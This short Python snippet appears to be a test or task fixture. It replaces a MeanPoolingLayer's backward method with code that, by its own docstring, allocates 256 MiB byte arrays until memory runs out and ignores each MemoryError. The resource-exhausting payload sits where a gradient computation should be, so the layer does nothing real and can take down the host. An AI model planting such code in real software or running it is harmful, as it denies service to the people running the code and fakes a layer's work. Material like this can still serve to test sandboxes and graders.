"""Grows a byte array until there is no memory left, and goes on after the error."""

# @STUB mean_pooling@


def backward(self, dout):
    kept = []
    for _ in range(200):
        try:
            kept.append(bytearray(b"x") * (1 << 28))
        except MemoryError:
            continue
    return kept


MeanPoolingLayer.backward = backward
